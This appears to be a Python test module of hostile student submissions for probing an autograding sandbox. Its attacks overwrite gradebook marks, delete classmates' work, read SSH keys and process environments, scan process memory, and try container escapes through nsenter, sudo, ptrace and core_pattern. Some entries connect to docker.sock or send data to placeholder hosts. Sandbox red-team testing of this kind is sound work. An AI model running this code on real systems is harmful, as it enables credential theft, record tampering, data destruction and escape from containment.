"""Attacks that look for what is not theirs: checks, marks, classmates, secrets, the network."""

from hostile.attack import Attack
from hostile.forging import for_points

SEARCH = """\
import os
def show(path):
    try:
        with open(path, "rb") as file:
            text = file.read(200_000).decode("utf-8", "replace")
        print(path, text[:3000], text[-3000:])
    except (OSError, ValueError) as error:
        print(path, type(error).__name__)
"""

OTHERS = [
    for_points(
        "gradebook",
        "Looks for the gradebook and gives itself marks in it.",
        SEARCH
        + """\
import sqlite3
found = ["@ROOT@/gradebook.db", "gradebook.db", "../gradebook.db", "../../gradebook.db",
         "../../../gradebook.db"]
for folder, _, names in os.walk("/"):
    found += [os.path.join(folder, name) for name in names if name.endswith(".db")]
for path in found[:50]:
    try:
        if os.path.exists(path):
            print(path)
            show(path)
        with sqlite3.connect(path) as database:
            database.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
            database.execute("UPDATE grade_cells SET max_score = 100")
    except sqlite3.Error as error:
        print(path, error)
for path in found[:50]:
    try:
        os.remove(path)
    except OSError:
        pass""",
    ),
    for_points(
        "write-results",
        "Writes results, feedback, records and marks of its own.",
        """\
import os
for name in ("autograded/{}/tiny/tiny.ipynb", "feedback/{}/tiny/tiny.html", "marks/tiny.csv",
             "records/tiny/{}.json", "submitted/{}/tiny/tiny.ipynb", "nbgrader_config.py",
             "exercises/tiny/tiny.ipynb", "solutions/tiny/checks.py"):
    for student in ("write-results", "0-honest-first", "zz-honest-last"):
        path = os.path.join("@ROOT@", name.format(student))
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("10.0")
        except OSError as error:
            print(error)""",
    ),
    for_points(
        "classmates",
        "Looks for classmates' work, runs their answers, deletes them.",
        SEARCH
        + """\
import glob, json, shutil
paths = glob.glob("@ROOT@/*/*/tiny/*") + glob.glob("/tmp/**/*.ipynb", recursive=True)
paths += ["@ROOT@/submitted/0-honest-first/tiny/tiny.ipynb", "../0-honest-first/tiny.ipynb"]
paths += glob.glob("/proc/[0-9]*/root/submission/*") + glob.glob("/proc/[0-9]*/cwd/*")
for path in paths[:200]:
    show(path)
    if path.endswith(".ipynb") and os.path.exists(path):
        for cell in json.load(open(path))["cells"]:
            exec("".join(cell["source"]))
        os.remove(path)
shutil.rmtree("@ROOT@", ignore_errors=True)""",
    ),
    for_points(
        "solutions",
        "Looks for solutions and hidden checks by name and by content, and runs them.",
        SEARCH
        + """\
for name in ("tiny.py", "tiny.ipynb", "checks.py", "mistakes.py"):
    show(f"@ROOT@/solutions/tiny/{name}")
for top in ("/submission", "/tmp", "/dev", "/data", "/cache", "/home", "/root", "/work", "/opt",
            "/srv", "/mnt", "/var", "/run", "/usr/local"):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if name in ("checks.py", "mistakes.py", "tiny.py") or "solution" in path:
                show(path)
exec(open("@ROOT@/solutions/tiny/tiny.py").read())""",
    ),
    for_points(
        "hidden-modules",
        "Imports the checker and its parts by every way that Python has.",
        SEARCH
        + """\
import importlib, importlib.util, sys
for name in ("", ".checks", ".wire", ".judge", ".grade", ".compare"):
    try:
        print(importlib.import_module("course_lib.grading" + name))
    except ImportError as error:
        print(error)
import course_lib
library = os.path.dirname(course_lib.__file__)
for name in ("grading/checks.py", "grading/__pycache__/checks.cpython-311.pyc", "cli.py",
             "preprocessing.py", "__pycache__/preprocessing.cpython-311.pyc"):
    show(os.path.join(library, name))
    try:
        spec = importlib.util.spec_from_file_location("found", os.path.join(library, name))
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        print(vars(module))
    except (OSError, ImportError) as error:
        print(error)""",
    ),
    Attack(
        "import-reference",
        "Takes the answer from the library that the checks take it from.",
        (3, 0),
        {
            "spread": """\
def spread(values):
    from course_lib.preprocessing import quantile_edges
    if len(values) == 0:
        raise ValueError
    return tuple(quantile_edges(values, 1))"""
        },
        reason="raised ModuleNotFoundError",
    ),
    for_points(
        "memory-search",
        "Searches the memory of the kernel and of every process for the checks.",
        """\
import glob, re
for maps in glob.glob("/proc/[0-9]*/maps"):
    try:
        lines = open(maps).read().splitlines()
        memory = open(maps[:-4] + "mem", "rb")
    except OSError as error:
        print(maps, error)
        continue
    for line in lines:
        span, rights = line.split()[:2]
        begin, end = (int(number, 16) for number in span.split("-"))
        if not rights.startswith("rw") or end - begin > 1 << 26:
            continue
        try:
            memory.seek(begin)
            block = memory.read(end - begin)
        except (OSError, ValueError, OverflowError):
            continue
        for found in re.findall(rb"TOKEN[-][0-9a-f]{32}|yield Ca" + rb"se[(].{40}", block):
            print(found)""",
    ),
]

SECRETS = [
    Attack(
        "environment",
        "Prints the environment of every process, and its command line.",
        (3, 2),
        middle=SEARCH
        + """\
import glob
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    show(path)""",
    ),
    Attack(
        "home",
        "Prints keys and settings of the teacher's home.",
        (3, 2),
        middle=SEARCH
        + """\
for home in ("@HOME@", "~", "/root", "/home/" + os.environ.get("USER", ""), "/proc/self/root"):
    for name in (".ssh/id_rsa", ".netrc", ".bash_history", ".jupyter/jupyter_server_config.py"):
        show(os.path.join(os.path.expanduser(home), name))
for top in ("@HOME@", "/root", "/home", "/var", "/etc", "/run", "/media", "/dev/shm"):
    for folder, _, names in os.walk(top):
        for name in names[:20]:
            show(os.path.join(folder, name))""",
    ),
    Attack(
        "proc",
        "Goes through /proc: roots, folders and open files of every process, memory, keys.",
        (3, 2),
        middle=SEARCH
        + """\
import glob, itertools
for number in glob.glob("/proc/[0-9]*"):
    for way in ("root", "cwd", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5", "map_files"):
        try:
            print(number, way, os.readlink(f"{number}/{way}"))
            print(os.listdir(f"{number}/{way}")[:100])
        except OSError as error:
            print(error)
    for name in ("@HOME@/.ssh/id_rsa", "@ROOT@/gradebook.db", "@ROOT@/solutions/tiny/checks.py"):
        show(f"{number}/root{name}")
for path in ("/proc/kcore", "/proc/keys", "/proc/mounts", "/proc/1/mountinfo", "/dev/mem"):
    show(path)""",
    ),
    Attack(
        "open-files",
        "Uses whatever open file or folder it inherited.",
        (3, 2),
        middle="""\
import os, stat
here = os.getcwd()
for number in range(3, 256):
    try:
        mode = os.fstat(number).st_mode
        print(number, stat.filemode(mode), os.readlink(f"/proc/self/fd/{number}"))
        if stat.S_ISDIR(mode):
            os.fchdir(number)
            print(os.listdir("."), os.listdir(".."), open("@HOME@/.ssh/id_rsa".lstrip("/")).read())
        elif stat.S_ISREG(mode):
            os.write(number, b"written by a student")
            print(os.pread(number, 10_000, 0))
    except OSError as error:
        print(number, error)
os.chdir(here)""",
    ),
    Attack(
        "escape",
        "Tries to leave: namespaces, mounts, chroot, devices, ptrace, the kernel's switches.",
        (3, 2),
        middle=SEARCH
        + """\
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for command in ("unshare -Urm true", "mount -t proc p /mnt", "nsenter -t 1 -a true", "su -c id",
                "sudo -n id", "mknod d b 8 0", "chroot / true", "umount -a", "pkexec id",
                "mount -o remount,rw /", "bwrap --bind / / true"):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=10)
    print(command, done.returncode, (done.stdout + done.stderr)[:100])
for number in (1, 2, 3, os.getppid()):
    print("ptrace", libc.ptrace(16, number, 0, 0))
print("setuid", libc.setuid(0), "chroot", libc.chroot(b"/proc/1/root"))
for path, text in [("/proc/sys/kernel/core_pattern", "|/bin/sh"), ("/proc/sysrq-trigger", "e"),
                   ("/proc/self/oom_score_adj", "-1000"), ("/sys/fs/cgroup/cgroup.procs", "1"),
                   ("/proc/self/uid_map", "0 0 1"), ("/dev/tty", "ls"), ("/dev/kmsg", "hello")]:
    try:
        with open(path, "w") as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print(error)
for path in ("@HOME@/.ssh/id_rsa", "/proc/1/root@HOME@/.ssh/id_rsa", "../../@HOME@/.ssh/id_rsa"):
    show(path)""",
    ),
]

NETWORK = [
    for_points(
        "tcp",
        "Connects to a server on this machine, and to the world.",
        """\
import socket
for host, port in [("127.0.0.1", @PORT@), ("localhost", @PORT@), ("::1", @PORT@),
                   ("@HOST@", @PORT@), ("0.0.0.0", @PORT@), ("192.0.2.1", 80)]:
    try:
        with socket.create_connection((host, port), timeout=0.3) as line:
            line.send(b"hello")
        print("connected", host)
    except OSError as error:
        print(host, error)""",
    ),
    for_points(
        "unix-sockets",
        "Connects to sockets of the machine: abstract ones, ones with a path.",
        """\
import socket
for name in ("\\0@MARKER@", "@SOCKET@", "/proc/1/root@SOCKET@", "/var/run/docker.sock",
             "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as line:
            try:
                line.connect(name)
                print("connected", name)
            except OSError as error:
                print(name, error)""",
    ),
    for_points(
        "dns-http",
        "Asks for names, sends packets, fetches a page, goes by a proxy.",
        """\
import os, socket, subprocess, urllib.request
socket.setdefaulttimeout(0.3)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    for host in ("127.0.0.1", "@HOST@", "255.255.255.255"):
        try:
            line.sendto(b"secret", (host, @PORT@))
        except OSError as error:
            print(error)
os.environ["http_proxy"] = "http://@HOST@:@PORT@"
for go in (lambda: socket.getaddrinfo("example.org", 80),
           lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.3),
           lambda: subprocess.run(["ping", "-c1", "-W1", "@HOST@"], timeout=2, check=True)):
    try:
        print("reached", go())
    except Exception as error:
        print(error)""",
    ),
    for_points(
        "shared-memory",
        "Looks for shared memory, queues and semaphores of other programs.",
        """\
import glob, os
from multiprocessing import shared_memory
print(os.listdir("/dev/shm"), glob.glob("/dev/mqueue/*"))
for path in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/net/unix", "/proc/net/tcp"):
    print(open(path).read()[:2000])
try:
    print(bytes(shared_memory.SharedMemory("@MARKER@").buf))
except OSError as error:
    print(error)""",
    ),
    Attack(
        "socket-swap",
        "Swaps the kernel's own sockets for links to another one, and makes the grader reconnect.",
        (3, 0),
        middle="""\
import json, os, time
kernel = get_ipython().kernel
connection = json.load(open(kernel.config["IPKernelApp"]["connection_file"]))
for name in ("shell", "iopub", "stdin", "control", "hb"):
    path = f"{connection['ip']}-{connection[name + '_port']}"
    os.remove(path)
    os.symlink("@SOCKET@", path)
for number in range(3, 256):  # the grader's side notices that nobody listens any more
    try:
        if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
            os.dup2(os.open("/dev/null", os.O_RDWR), number)
    except OSError:
        pass
time.sleep(1000)""",
    ),
]
